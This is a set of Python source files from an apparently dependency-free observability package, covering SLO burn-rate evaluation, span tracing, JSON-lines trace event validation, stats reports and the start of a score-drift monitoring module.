# Config artifacts


def load_slos(path: str | os.PathLike) -> tuple[Slo, ...]:
    """Load an SLO config file; raises ``ValueError`` on a bad one."""
    with open(path, encoding="utf-8") as handle:
        try:
            payload = json.load(handle)
        except json.JSONDecodeError as error:
            raise ValueError(f"{path}: not JSON ({error})") from None
    if not isinstance(payload, dict) or not isinstance(
        payload.get("slos"), list
    ):
        raise ValueError(f"{path}: not an SLO config (needs a 'slos' list)")
    schema = payload.get("schema", SLO_SCHEMA)
    if not str(schema).startswith("repro.slo/"):
        raise ValueError(f"{path}: unknown SLO config schema {schema!r}")
    slos = []
    for index, entry in enumerate(payload["slos"]):
        if not isinstance(entry, dict):
            raise ValueError(f"{path}: slos[{index}] is not an object")
        try:
            slos.append(Slo(**entry))
        except (TypeError, ValueError) as error:
            raise ValueError(f"{path}: slos[{index}]: {error}") from None
    if not slos:
        raise ValueError(f"{path}: SLO config declares no objectives")
    return tuple(slos)


def dump_slos(slos: tuple[Slo, ...] = DEFAULT_SLOS) -> dict[str, Any]:
    """The JSON form of a config — ``repro slo show`` prints this."""
    return {"schema": SLO_SCHEMA, "slos": [slo.to_dict() for slo in slos]}


# ----------------------------------------------------------------------
# Evaluation


def _count(snapshot: dict[str, Any], name: str) -> float:
    """Resolve a count by name: counters first, then histogram counts.

    Rate SLOs name things like ``span.document`` as denominators — that
    is a histogram, and its ``count`` is the per-document throughput
    counter this repo never kept separately.
    """
    value = snapshot.get("counters", {}).get(name)
    if value is not None:
        return float(value)
    histogram = snapshot.get("histograms", {}).get(name)
    if histogram is not None:
        return float(histogram["count"])
    return 0.0


def _percentile(snapshot: dict[str, Any], name: str, q: float) -> float:
    from repro.obs.metrics import Histogram

    payload = snapshot.get("histograms", {}).get(name)
    if payload is None or not payload["count"]:
        return 0.0
    return Histogram.from_dict(payload).percentile(q)


@dataclass(frozen=True)
class SloResult:
    """One evaluated objective."""

    slo: Slo
    observed: float
    threshold: float
    burn_rate: float
    samples: int
    ok: bool
    detail: str = ""

    def to_dict(self) -> dict[str, Any]:
        return {
            "name": self.slo.name,
            "kind": self.slo.kind,
            "observed": self.observed,
            "threshold": self.threshold,
            "burn_rate": self.burn_rate,
            "samples": self.samples,
            "ok": self.ok,
            "detail": self.detail,
        }


@dataclass
class SloReport:
    """All evaluated objectives of one check."""

    results: list[SloResult] = field(default_factory=list)
    window_s: float | None = None

    @property
    def violated(self) -> list[SloResult]:
        return [r for r in self.results if not r.ok]

    @property
    def ok(self) -> bool:
        return not self.violated

    def to_dict(self) -> dict[str, Any]:
        return {
            "window_s": self.window_s,
            "results": [r.to_dict() for r in self.results],
            "violated": [r.slo.name for r in self.violated],
            "ok": self.ok,
        }

    def render(self) -> str:
        scope = (
            f"last {self.window_s:.0f}s window"
            if self.window_s is not None
            else "cumulative"
        )
        lines = [
            f"SLO — {len(self.violated)} violated of {len(self.results)} "
            f"objectives ({scope})"
        ]
        lines.append(
            f"  {'objective':<18} {'kind':<12} {'observed':>10} "
            f"{'threshold':>10} {'burn':>7}  status"
        )
        for result in sorted(
            self.results, key=lambda r: (r.ok, -r.burn_rate)
        ):
            status = "ok" if result.ok else "VIOLATED"
            detail = f"  ({result.detail})" if result.detail else ""
            lines.append(
                f"  {result.slo.name:<18} {result.slo.kind:<12} "
                f"{result.observed:>10.4f} {result.threshold:>10.4f} "
                f"{result.burn_rate:>7.2f}  {status}{detail}"
            )
        return "\n".join(lines)


def _evaluate_one(
    slo: Slo,
    *,
    percentile,
    count,
) -> SloResult:
    if slo.kind == "latency_p95":
        samples = int(count(slo.histogram))
        observed = percentile(slo.histogram, 0.95) if samples else 0.0
        burn = observed / slo.target_s
        return SloResult(
            slo,
            round(observed, 6),
            slo.target_s,
            round(burn, 4),
            samples,
            observed <= slo.target_s,
            "no samples" if not samples else "",
        )
    base = count(slo.denominator)
    numerator = count(slo.numerator)
    observed = numerator / base if base else 0.0
    burn = observed / slo.budget
    return SloResult(
        slo,
        round(observed, 6),
        slo.budget,
        round(burn, 4),
        int(base),
        observed <= slo.budget,
        "no samples" if not base else f"{int(numerator)}/{int(base)}",
    )


def evaluate_snapshot(
    snapshot: dict[str, Any], slos: tuple[Slo, ...] = DEFAULT_SLOS
) -> SloReport:
    """Evaluate objectives against a cumulative registry snapshot.

    ``snapshot`` is a ``registry.to_dict()`` payload or the ``metrics``
    member of a saved profile artifact.  Objectives whose instruments
    never fired pass with ``detail="no samples"`` — an SLO cannot be
    violated by work that did not run.
    """
    report = SloReport()
    for slo in slos:
        report.results.append(
            _evaluate_one(
                slo,
                percentile=lambda name, q: _percentile(snapshot, name, q),
                count=lambda name: _count(snapshot, name),
            )
        )
    return report


def evaluate_window(
    view: WindowView, slos: tuple[Slo, ...] = DEFAULT_SLOS
) -> SloReport:
    """Evaluate objectives over one sliding-window view.

    This is the *burn-rate* form: a violated error budget here means the
    budget is being spent faster than allowed **right now**, not that the
    whole run's average crossed the line.
    """
    report = SloReport(window_s=view.window_s)
    for slo in slos:
        report.results.append(
            _evaluate_one(slo, percentile=view.percentile, count=view.count)
        )
    return report
