"""Human-readable rollups of registry metrics and saved trace events.

Two consumers:

* ``--stats`` on the batch CLI commands renders :func:`summarize` over the
  live registry right after a run (per-stage p50/p95/max, throughput,
  cache hit rate, error and skip counters);
* ``repro stats events.jsonl`` re-aggregates a saved trace with
  :func:`aggregate_events` — there the percentiles are exact (computed
  from the raw durations) rather than histogram-interpolated.
"""

from __future__ import annotations

import math
from typing import Any, Iterable

#: Pipeline-order ranking for stage rows; unknown names sort after, A–Z.
_STAGE_ORDER = (
    "extract", "filter", "analyze", "featurize", "lint", "classify",
    "document", "batch",
)

#: Span names that aggregate whole documents/batches (or are pool
#: bookkeeping) rather than one pipeline stage — excluded when sizing a
#: per-stage watchdog timeout.
_NON_STAGE_SPANS = frozenset({"document", "batch", "pool.recover"})


def _stage_key(name: str) -> tuple[int, str]:
    try:
        return (_STAGE_ORDER.index(name), name)
    except ValueError:
        return (len(_STAGE_ORDER), name)


def format_duration(seconds: float) -> str:
    if seconds >= 1.0:
        return f"{seconds:.2f}s"
    if seconds >= 0.001:
        return f"{seconds * 1000:.1f}ms"
    return f"{seconds * 1_000_000:.0f}us"


def _render_rows(
    rows: list[tuple[str, int, float, float, float, float]]
) -> list[str]:
    lines = [
        f"  {'stage':<12} {'count':>7} {'p50':>9} {'p95':>9} {'max':>9} "
        f"{'total':>9}"
    ]
    for name, count, p50, p95, maximum, total in rows:
        lines.append(
            f"  {name:<12} {count:>7} {format_duration(p50):>9} "
            f"{format_duration(p95):>9} {format_duration(maximum):>9} "
            f"{format_duration(total):>9}"
        )
    return lines


def summarize(registry, cache_info: dict[str, int] | None = None) -> str:
    """Render the post-run ``--stats`` summary from a live registry."""
    snapshot = registry.to_dict()
    histograms = snapshot["histograms"]
    counters = snapshot["counters"]

    from repro.obs.metrics import Histogram

    spans = {
        name.removeprefix("span."): Histogram.from_dict(payload)
        for name, payload in histograms.items()
        if name.startswith("span.") and payload["count"]
    }
    lines = ["TELEMETRY"]

    documents = spans.get("document")
    wall = None
    if "batch" in spans:
        wall = spans["batch"].sum
    elif documents is not None:
        wall = documents.sum
    if documents is not None and wall:
        lines[0] = (
            f"TELEMETRY — {documents.count} documents in "
            f"{format_duration(wall)} ({documents.count / wall:.1f} docs/s)"
        )

    rows = [
        (name, spans[name].count, spans[name].percentile(0.5),
         spans[name].percentile(0.95), spans[name].max, spans[name].sum)
        for name in sorted(spans, key=_stage_key)
    ]
    if rows:
        lines.extend(_render_rows(rows))

    if cache_info is not None:
        lookups = cache_info["hits"] + cache_info["misses"]
        rate = cache_info["hits"] / lookups if lookups else 0.0
        lines.append(
            f"  cache: {cache_info['hits']} hits / {cache_info['misses']} misses"
            f" / {cache_info.get('evictions', 0)} evictions"
            f" ({rate:.1%} hit rate)"
        )
        feature_lookups = cache_info.get("feature_hits", 0) + cache_info.get(
            "feature_misses", 0
        )
        if feature_lookups:
            feature_rate = cache_info["feature_hits"] / feature_lookups
            lines.append(
                f"  feature cache: {cache_info['feature_hits']} hits"
                f" / {cache_info['feature_misses']} misses"
                f" / {cache_info.get('feature_evictions', 0)} evictions"
                f" ({feature_rate:.1%} hit rate)"
            )

    errors = {
        name.removeprefix("errors."): value
        for name, value in counters.items()
        if name.startswith("errors.") and value
    }
    if errors:
        lines.append(
            "  errors: "
            + ", ".join(
                f"{stage} {count}"
                for stage, count in sorted(errors.items(), key=lambda kv: _stage_key(kv[0]))
            )
        )
    if counters.get("walk.skipped"):
        lines.append(
            f"  walk: {counters['walk.skipped']} inputs skipped "
            f"(beyond --max-depth or not regular files)"
        )
    resilience = {
        name.split(".", 1)[1]: value
        for name, value in counters.items()
        if name.startswith(("resilience.", "budget.")) and value
    }
    if resilience:
        lines.append(
            "  resilience: "
            + ", ".join(
                f"{event} {count}"
                for event, count in sorted(resilience.items())
            )
        )
    if counters.get("archive.members") or counters.get("archive.rejected"):
        lines.append(
            f"  archives: {counters.get('archive.expanded', 0)} expanded "
            f"({counters.get('archive.members', 0)} members), "
            f"{counters.get('archive.rejected', 0)} rejected by zip-bomb guards"
        )
    serving = {
        name.removeprefix("serve."): value
        for name, value in counters.items()
        if name.startswith("serve.") and not name.startswith("serve.requests.")
        and not name.startswith("serve.errors.") and value
    }
    requests = sum(
        value
        for name, value in counters.items()
        if name.startswith("serve.requests.")
    )
    if serving or requests:
        detail = ", ".join(
            f"{event} {count}" for event, count in sorted(serving.items())
        )
        lines.append(
            f"  serving: {requests} requests"
            + (f" ({detail})" if detail else "")
        )
    return "\n".join(lines)


def aggregate_events(events: Iterable[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """Exact per-span-name stats from raw trace events.

    Returns ``{name: {count, errors, p50, p95, max, total, mean}}`` with
    durations in seconds and percentiles computed from the sorted raw
    values (nearest-rank).
    """
    durations: dict[str, list[float]] = {}
    errors: dict[str, int] = {}
    for event in events:
        # Traces may interleave other event types (e.g. "drift"); only
        # span events carry durations to aggregate.
        if event.get("type", "span") != "span":
            continue
        durations.setdefault(event["name"], []).append(float(event["dur"]))
        if event["outcome"] == "error":
            errors[event["name"]] = errors.get(event["name"], 0) + 1
    aggregated: dict[str, dict[str, Any]] = {}
    for name, values in durations.items():
        values.sort()
        aggregated[name] = {
            "count": len(values),
            "errors": errors.get(name, 0),
            "p50": _nearest_rank(values, 0.5),
            "p95": _nearest_rank(values, 0.95),
            "max": values[-1],
            "total": sum(values),
            "mean": sum(values) / len(values),
        }
    return aggregated


def _nearest_rank(sorted_values: list[float], q: float) -> float:
    index = max(0, min(len(sorted_values) - 1, round(q * len(sorted_values)) - 1))
    return sorted_values[index]


def _ladder_round(value: float) -> float:
    """Round up to the 1-2-5 ladder (0.2, 0.5, 1, 2, 5, 10, ...)."""
    exponent = math.floor(math.log10(value))
    for mantissa in (1.0, 2.0, 5.0, 10.0):
        candidate = mantissa * 10.0**exponent
        if candidate >= value - 1e-12:
            return candidate
    raise AssertionError("unreachable")


def suggest_stage_timeout(
    aggregated: dict[str, dict[str, Any]]
) -> float | None:
    """A ``--stage-timeout`` suggestion from observed per-stage maxima.

    Takes the slowest single-stage observation in the trace (document- and
    batch-level aggregate spans excluded — a watchdog bounds *stages*),
    doubles it for headroom, and rounds up the 1-2-5 ladder so the hint is
    a number a human would actually type.  Returns ``None`` when the trace
    has no stage spans to size from; floors at 0.1s — tighter watchdogs
    misfire on ordinary scheduler jitter.
    """
    slowest = max(
        (
            stats["max"]
            for name, stats in aggregated.items()
            if name not in _NON_STAGE_SPANS
        ),
        default=0.0,
    )
    if slowest <= 0.0:
        return None
    return max(0.1, _ladder_round(slowest * 2.0))


def render_events_report(events: list[dict[str, Any]]) -> str:
    """The ``repro stats`` table over a saved JSON-lines trace."""
    if not events:
        return "no events"
    aggregated = aggregate_events(events)
    drift_events = [e for e in events if e.get("type") == "drift"]
    serve_events = [e for e in events if e.get("type") == "serve"]
    span_count = len(events) - len(drift_events) - len(serve_events)
    pids = {event["pid"] for event in events}
    lines = [
        f"TRACE — {span_count} spans across {len(pids)} process"
        f"{'es' if len(pids) != 1 else ''}"
    ]
    rows = [
        (name, stats["count"], stats["p50"], stats["p95"], stats["max"],
         stats["total"])
        for name, stats in sorted(aggregated.items(), key=lambda kv: _stage_key(kv[0]))
    ]
    lines.extend(_render_rows(rows))
    error_rows = [
        f"{name} {stats['errors']}"
        for name, stats in sorted(aggregated.items(), key=lambda kv: _stage_key(kv[0]))
        if stats["errors"]
    ]
    if error_rows:
        lines.append("  errors: " + ", ".join(error_rows))
    if drift_events:
        drifted = sum(1 for e in drift_events if e["verdict"] == "drift")
        warned = sum(1 for e in drift_events if e["verdict"] == "warn")
        lines.append(
            f"  drift: {len(drift_events)} evaluations"
            f" ({drifted} drifted, {warned} warning)"
        )
    if serve_events:
        by_kind: dict[str, int] = {}
        for event in serve_events:
            by_kind[event["event"]] = by_kind.get(event["event"], 0) + 1
        breakdown = ", ".join(
            f"{kind} {count}" for kind, count in sorted(by_kind.items())
        )
        lines.append(f"  serving: {len(serve_events)} events ({breakdown})")
    documents = aggregated.get("document")
    if documents:
        wall = aggregated.get("batch", documents)["total"]
        if wall:
            lines.append(
                f"  throughput: {documents['count'] / wall:.1f} docs/s "
                f"({documents['count']} documents in {format_duration(wall)})"
            )
    suggestion = suggest_stage_timeout(aggregated)
    if suggestion is not None:
        lines.append(
            f"  hint: --stage-timeout {suggestion:g} gives >=2x headroom "
            f"over the slowest stage observed here"
        )
    return "\n".join(lines)
