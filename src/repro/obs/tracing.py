"""Span tracing: named wall-clock sections recorded into the registry.

A span measures one section of work with a monotonic clock and, on
finish, observes the duration into the registry histogram
``span.<name>`` (so p50/p95 per stage fall out of the metrics alone).
With ``MetricsRegistry(trace=True)`` each finished span additionally
buffers one JSON-ready event::

    {"type": "span", "name": "analyze", "ts": 12.034, "dur": 0.0041,
     "doc": "<sha256-or-null>", "outcome": "ok", "pid": 4242, "depth": 1}

``ts`` is ``time.perf_counter()`` at span start — monotonic and
comparable *within* one process (events carry ``pid`` so offline tooling
can group before ordering).  ``depth`` is the live nesting level, enough
to reconstruct waterfalls from a per-process event stream.

Spans are both context managers and manually driven (``start``/
``finish``) for call sites that need the duration or want to set the
outcome after the fact::

    with registry.span("extract", doc=digest):
        ...                                   # outcome from the exception

    span = registry.span("classify", doc=digest).start()
    try:
        ...
    finally:
        span.finish(outcome="error" if failed else "ok")
"""

from __future__ import annotations

import os
import time
from typing import Any

OUTCOMES = ("ok", "error")


class Span:
    """One timed section; records itself into its registry on finish."""

    __slots__ = ("registry", "name", "doc", "outcome", "started_at", "duration", "_depth")

    def __init__(self, registry, name: str, doc: str | None = None) -> None:
        self.registry = registry
        self.name = name
        self.doc = doc
        self.outcome = "ok"
        self.started_at: float | None = None
        self.duration: float | None = None
        self._depth = 0

    def start(self) -> "Span":
        self._depth = self.registry._span_depth
        self.registry._span_depth += 1
        self.started_at = time.perf_counter()
        return self

    def finish(self, outcome: str | None = None) -> "Span":
        duration = time.perf_counter() - self.started_at
        self.registry._span_depth -= 1
        if outcome is not None:
            if outcome not in OUTCOMES:
                raise ValueError(f"unknown span outcome {outcome!r}")
            self.outcome = outcome
        self.duration = duration
        registry = self.registry
        registry.histogram(f"span.{self.name}").observe(duration)
        if registry.trace:
            registry.events.append(self.to_event())
        return self

    def to_event(self) -> dict[str, Any]:
        return {
            "type": "span",
            "name": self.name,
            "ts": self.started_at,
            "dur": self.duration,
            "doc": self.doc,
            "outcome": self.outcome,
            "pid": os.getpid(),
            "depth": self._depth,
        }

    def __enter__(self) -> "Span":
        return self.start()

    def __exit__(self, exc_type, exc, tb) -> None:
        self.finish(outcome="error" if exc_type is not None else None)


class _NullSpan:
    """Reusable no-op span handed out by the null registry."""

    __slots__ = ()

    duration = None
    outcome = "ok"

    def start(self) -> "_NullSpan":
        return self

    def finish(self, outcome: str | None = None) -> "_NullSpan":
        return self

    def __enter__(self) -> "_NullSpan":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        return None


NULL_SPAN = _NullSpan()
