"""The JSON-lines trace format: typed events, one per line, plus a validator.

``--trace-out events.jsonl`` persists every event the registry buffered —
the offline complement to the in-process metrics, suitable for
flame/waterfall reconstruction and for ``repro stats`` re-aggregation.
The schema is deliberately flat and stdlib-checkable, dispatched on the
``type`` field.  ``"span"`` events (one per finished pipeline span):

========  ==============  ====================================================
field     type            meaning
========  ==============  ====================================================
type      str             ``"span"``
name      str             span name (``extract``, ``analyze``, ``document``...)
ts        number          ``time.perf_counter()`` at span start (per-process)
dur       number >= 0     wall-clock seconds inside the span
doc       str | null      SHA-256 of the document the span worked on
outcome   str             ``"ok"`` or ``"error"``
pid       int             producing process (workers emit their own events)
depth     int >= 0        span nesting level inside its process
========  ==============  ====================================================

``"drift"`` events (one per dimension per drift evaluation, emitted by
:class:`repro.obs.drift.DriftMonitor` when live traffic is scored against
a baseline profile):

========  ==============  ====================================================
field     type            meaning
========  ==============  ====================================================
type      str             ``"drift"``
name      str             drifting dimension (``score.probability``, ...)
ts        number          ``time.perf_counter()`` at evaluation (per-process)
metric    str             ``"psi"``, ``"kl"``, or ``"smd"``
value     number >= 0     the divergence / shift score
verdict   str             ``"ok"``, ``"warn"``, or ``"drift"``
pid       int             producing process
========  ==============  ====================================================

``"serve"`` events (one per admission-control decision or lifecycle
transition in the :mod:`repro.serve` front-end):

========  ==============  ====================================================
field     type            meaning
========  ==============  ====================================================
type      str             ``"serve"``
name      str             endpoint (``scan``...) or ``"gateway"``
ts        number          ``time.perf_counter()`` at the decision (per-process)
event     str             one of :data:`SERVE_EVENTS`
detail    str             decision detail (rejection code, breaker edge, ...)
pid       int             producing process
========  ==============  ====================================================
"""

from __future__ import annotations

import json
import os
from typing import Any, Iterable

from repro.obs.tracing import OUTCOMES

#: field → allowed types (None in the tuple means JSON null is allowed).
EVENT_SCHEMA: dict[str, tuple] = {
    "type": (str,),
    "name": (str,),
    "ts": (int, float),
    "dur": (int, float),
    "doc": (str, type(None)),
    "outcome": (str,),
    "pid": (int,),
    "depth": (int,),
}

DRIFT_EVENT_SCHEMA: dict[str, tuple] = {
    "type": (str,),
    "name": (str,),
    "ts": (int, float),
    "metric": (str,),
    "value": (int, float),
    "verdict": (str,),
    "pid": (int,),
}

SERVE_EVENT_SCHEMA: dict[str, tuple] = {
    "type": (str,),
    "name": (str,),
    "ts": (int, float),
    "event": (str,),
    "detail": (str,),
    "pid": (int,),
}

#: event type → its field schema; unknown types are rejected.
EVENT_SCHEMAS: dict[str, dict[str, tuple]] = {
    "span": EVENT_SCHEMA,
    "drift": DRIFT_EVENT_SCHEMA,
    "serve": SERVE_EVENT_SCHEMA,
}

EVENT_TYPES = tuple(EVENT_SCHEMAS)

DRIFT_METRICS = ("psi", "kl", "smd")
DRIFT_VERDICTS = ("ok", "warn", "drift")

#: admission-control decisions and lifecycle transitions a front-end traces.
SERVE_EVENTS = (
    "admitted",
    "shed",
    "rejected",
    "deadline_expired",
    "breaker",
    "drain",
    "connection",
)

#: a ``"connection"`` serve event's detail leads with one of these
#: keep-alive lifecycle phases (``"<phase> <client>"``).
CONNECTION_PHASES = ("opened", "reused", "closed", "idle_timeout")


def serve_event(name: str, event: str, detail: str = "") -> dict[str, Any]:
    """Build one validated ``"serve"`` trace event."""
    import time

    return validate_event(
        {
            "type": "serve",
            "name": name,
            "ts": time.perf_counter(),
            "event": event,
            "detail": detail,
            "pid": os.getpid(),
        }
    )


def validate_event(event: Any) -> dict[str, Any]:
    """Check one decoded event against its type's schema; raises ``ValueError``."""
    if not isinstance(event, dict):
        raise ValueError(f"event must be an object, got {type(event).__name__}")
    schema = EVENT_SCHEMAS.get(event.get("type"))
    if schema is None:
        raise ValueError(f"unknown event type {event.get('type')!r}")
    unknown = set(event) - set(schema)
    if unknown:
        raise ValueError(f"unknown event fields: {sorted(unknown)}")
    for field, allowed in schema.items():
        if field not in event:
            raise ValueError(f"event missing field {field!r}")
        value = event[field]
        # bool is an int subclass; never a valid numeric field value here.
        if isinstance(value, bool) or not isinstance(value, allowed):
            raise ValueError(
                f"event field {field!r} has type {type(value).__name__}"
            )
    if event["type"] == "span":
        if event["outcome"] not in OUTCOMES:
            raise ValueError(f"unknown event outcome {event['outcome']!r}")
        if event["dur"] < 0:
            raise ValueError("event dur must be non-negative")
        if event["depth"] < 0:
            raise ValueError("event depth must be non-negative")
    elif event["type"] == "drift":
        if event["metric"] not in DRIFT_METRICS:
            raise ValueError(f"unknown drift metric {event['metric']!r}")
        if event["verdict"] not in DRIFT_VERDICTS:
            raise ValueError(f"unknown drift verdict {event['verdict']!r}")
        if event["value"] < 0:
            raise ValueError("drift value must be non-negative")
    else:  # serve
        if event["event"] not in SERVE_EVENTS:
            raise ValueError(f"unknown serve event {event['event']!r}")
        if event["event"] == "connection":
            phase = event["detail"].split(" ", 1)[0]
            if phase not in CONNECTION_PHASES:
                raise ValueError(
                    f"unknown connection phase {phase!r} in detail"
                )
    return event


def write_events(path: str | os.PathLike, events: Iterable[dict[str, Any]]) -> int:
    """Write events as JSON lines; returns the number written."""
    written = 0
    with open(path, "w", encoding="utf-8") as handle:
        for event in events:
            handle.write(json.dumps(validate_event(event), sort_keys=True))
            handle.write("\n")
            written += 1
    return written


def read_events(path: str | os.PathLike) -> list[dict[str, Any]]:
    """Load and validate a JSON-lines trace; raises ``ValueError`` on bad lines."""
    events: list[dict[str, Any]] = []
    with open(path, encoding="utf-8") as handle:
        for line_number, line in enumerate(handle, start=1):
            line = line.strip()
            if not line:
                continue
            try:
                event = json.loads(line)
            except json.JSONDecodeError as error:
                raise ValueError(f"line {line_number}: not JSON ({error})") from None
            try:
                events.append(validate_event(event))
            except ValueError as error:
                raise ValueError(f"line {line_number}: {error}") from None
    return events


def read_events_tolerant(
    path: str | os.PathLike,
) -> tuple[list[dict[str, Any]], int]:
    """Load a trace that may be truncated or corrupt mid-stream.

    Traces written by a crashed (or chaos-killed) process routinely end in
    a half-written line; aggregation must survive that instead of raising
    halfway through.  Returns ``(valid_events, lines_skipped)`` — every
    line that fails to decode or validate is skipped and counted, never
    fatal.  ``OSError`` (missing/unreadable file) still propagates: that
    is the caller's problem, not the trace's.
    """
    events: list[dict[str, Any]] = []
    skipped = 0
    with open(path, encoding="utf-8", errors="replace") as handle:
        for line in handle:
            line = line.strip()
            if not line:
                continue
            try:
                events.append(validate_event(json.loads(line)))
            except (ValueError, TypeError):
                skipped += 1
    return events, skipped
