"""``repro.obs`` — the dependency-free observability subsystem.

One :class:`MetricsRegistry` per engine collects counters, gauges,
fixed-bucket histograms, and moment summaries; :meth:`MetricsRegistry.span`
traces named wall-clock sections; ``trace=True`` buffers one JSON-ready
event per span for :func:`write_events` / ``repro stats``.  Worker
processes fill private registries that :meth:`MetricsRegistry.merge`
folds back into the parent.  :data:`NULL_REGISTRY` is the always-on
default that makes the whole layer free when telemetry is off.

On top of the cumulative registry sit the fleet-facing layers:

* :class:`SlidingWindow` — time-bucketed ring of snapshots answering
  "what is happening *now*" (sliding p50/p95, throughput, rates);
* :mod:`repro.obs.drift` — baseline profiles plus PSI/KL/SMD scoring of
  live traffic against them (:class:`DriftMonitor`, ``repro drift``);
* :mod:`repro.obs.slo` — declarative latency/error-budget objectives
  with burn-rate evaluation (``repro slo check``);
* :mod:`repro.obs.export` — Prometheus text exposition and the stdlib
  `/metrics` + `/healthz` endpoint (``repro scan --metrics-port``).

Quickstart::

    from repro.engine import AnalysisEngine
    from repro.obs import MetricsRegistry, summarize, write_events

    registry = MetricsRegistry(trace=True)
    engine = AnalysisEngine.for_lint(metrics=registry)
    engine.run_batch(paths, jobs=4)          # workers merge back in
    print(summarize(registry, engine.cache_info()))
    write_events("events.jsonl", registry.events)
"""

from repro.obs.drift import (
    DriftMonitor,
    DriftReport,
    capture_profile,
    read_profile,
    score_drift,
    write_profile,
)
from repro.obs.events import (
    EVENT_SCHEMA,
    EVENT_SCHEMAS,
    read_events,
    read_events_tolerant,
    validate_event,
    write_events,
)
from repro.obs.export import MetricsServer, render_prometheus
from repro.obs.metrics import (
    DEFAULT_LATENCY_BUCKETS,
    SCORE_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    Moments,
    NULL_REGISTRY,
    NullRegistry,
)
from repro.obs.report import (
    aggregate_events,
    format_duration,
    render_events_report,
    suggest_stage_timeout,
    summarize,
)
from repro.obs.slo import (
    DEFAULT_SLOS,
    Slo,
    SloReport,
    evaluate_snapshot,
    evaluate_window,
    load_slos,
)
from repro.obs.tracing import NULL_SPAN, Span
from repro.obs.windows import SlidingWindow, WindowView

__all__ = [
    "Counter",
    "DEFAULT_LATENCY_BUCKETS",
    "DEFAULT_SLOS",
    "DriftMonitor",
    "DriftReport",
    "EVENT_SCHEMA",
    "EVENT_SCHEMAS",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "MetricsServer",
    "Moments",
    "NULL_REGISTRY",
    "NULL_SPAN",
    "NullRegistry",
    "SCORE_BUCKETS",
    "SlidingWindow",
    "Slo",
    "SloReport",
    "Span",
    "WindowView",
    "aggregate_events",
    "capture_profile",
    "evaluate_snapshot",
    "evaluate_window",
    "format_duration",
    "load_slos",
    "read_events",
    "read_events_tolerant",
    "read_profile",
    "render_events_report",
    "render_prometheus",
    "score_drift",
    "suggest_stage_timeout",
    "summarize",
    "validate_event",
    "write_events",
    "write_profile",
]
