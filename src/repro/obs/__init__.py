"""``repro.obs`` — the dependency-free observability subsystem.

One :class:`MetricsRegistry` per engine collects counters, gauges, and
fixed-bucket histograms; :meth:`MetricsRegistry.span` traces named
wall-clock sections; ``trace=True`` buffers one JSON-ready event per span
for :func:`write_events` / ``repro stats``.  Worker processes fill
private registries that :meth:`MetricsRegistry.merge` folds back into the
parent.  :data:`NULL_REGISTRY` is the always-on default that makes the
whole layer free when telemetry is off.

Quickstart::

    from repro.engine import AnalysisEngine
    from repro.obs import MetricsRegistry, summarize, write_events

    registry = MetricsRegistry(trace=True)
    engine = AnalysisEngine.for_lint(metrics=registry)
    engine.run_batch(paths, jobs=4)          # workers merge back in
    print(summarize(registry, engine.cache_info()))
    write_events("events.jsonl", registry.events)
"""

from repro.obs.events import (
    EVENT_SCHEMA,
    read_events,
    read_events_tolerant,
    validate_event,
    write_events,
)
from repro.obs.metrics import (
    DEFAULT_LATENCY_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    NULL_REGISTRY,
    NullRegistry,
)
from repro.obs.report import (
    aggregate_events,
    format_duration,
    render_events_report,
    summarize,
)
from repro.obs.tracing import NULL_SPAN, Span

__all__ = [
    "Counter",
    "DEFAULT_LATENCY_BUCKETS",
    "EVENT_SCHEMA",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "NULL_REGISTRY",
    "NULL_SPAN",
    "NullRegistry",
    "Span",
    "aggregate_events",
    "format_duration",
    "read_events",
    "read_events_tolerant",
    "render_events_report",
    "summarize",
    "validate_event",
    "write_events",
]
