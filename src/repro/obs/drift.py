"""Score-drift monitoring: baseline profiles, PSI/KL scoring, drift events.

A detector trained once and evaluated on a frozen corpus degrades quietly
when real traffic stops resembling that corpus.  This module turns the
registry's distribution instruments into a drift story:

* :func:`capture_profile` freezes a **baseline profile** — the classifier
  probability histogram (``score.*``), per-lint-rule firing counters
  (``lint.rule.*``), and per-feature-column moment summaries
  (``feature.<set>.c<idx>``) — into a JSON artifact
  (``--baseline-out``);
* :func:`score_drift` compares any later registry snapshot against that
  profile: PSI (population stability index) over the probability and
  lint-rule distributions, standardized mean shift over feature columns,
  each dimension graded ``ok`` / ``warn`` / ``drift``;
* :class:`DriftMonitor` runs that comparison periodically against a
  *live* registry, publishes ``drift.<dimension>`` gauges (picked up by
  the `/metrics` exporter), and emits validated ``"drift"`` trace events
  next to the span events;
* ``repro drift BASELINE LIVE`` diffs two saved profiles from the CLI
  (exit 2 when any dimension drifted — the CI tripwire).

Everything is stdlib + the registry's own dict snapshots: drift scoring
works identically on a live registry and on a file written weeks ago.
"""

from __future__ import annotations

import json
import math
import os
import time
from dataclasses import dataclass, field
from typing import Any, Callable

from repro.obs.metrics import MetricsRegistry

#: Artifact schema tag for baseline/metrics snapshot files.
PROFILE_SCHEMA = "repro.baseline/1"

#: Additive (Laplace) smoothing applied per bucket before PSI/KL: half a
#: count.  A fixed proportion floor would make "3 documents here, 0
#: there" score as hard drift no matter how small the sample; half a
#: count keeps the penalty proportional to the sample's resolution, so a
#: genuinely novel mode still scores large while benign-vs-benign
#: sampling noise at N=40 stays under the drift threshold.
_PSEUDOCOUNT = 0.5


# ----------------------------------------------------------------------
# Profile artifacts


def capture_profile(
    registry: MetricsRegistry | dict[str, Any],
    *,
    source: str = "",
    documents: int | None = None,
    kind: str = "baseline",
) -> dict[str, Any]:
    """Freeze a registry (or its snapshot) into a profile artifact."""
    snapshot = (
        registry.to_dict()
        if isinstance(registry, MetricsRegistry)
        else dict(registry)
    )
    snapshot.pop("events", None)  # traces have their own artifact
    return {
        "schema": PROFILE_SCHEMA,
        "kind": kind,
        "created_unix": time.time(),
        "source": source,
        "documents": documents,
        "metrics": snapshot,
    }


def write_profile(path: str | os.PathLike, profile: dict[str, Any]) -> None:
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(profile, handle, sort_keys=True, indent=2)
        handle.write("\n")


def read_profile(path: str | os.PathLike) -> dict[str, Any]:
    """Load and sanity-check a profile artifact; raises ``ValueError``."""
    with open(path, encoding="utf-8") as handle:
        try:
            profile = json.load(handle)
        except json.JSONDecodeError as error:
            raise ValueError(f"{path}: not JSON ({error})") from None
    if not isinstance(profile, dict) or not isinstance(
        profile.get("metrics"), dict
    ):
        raise ValueError(f"{path}: not a baseline/metrics profile")
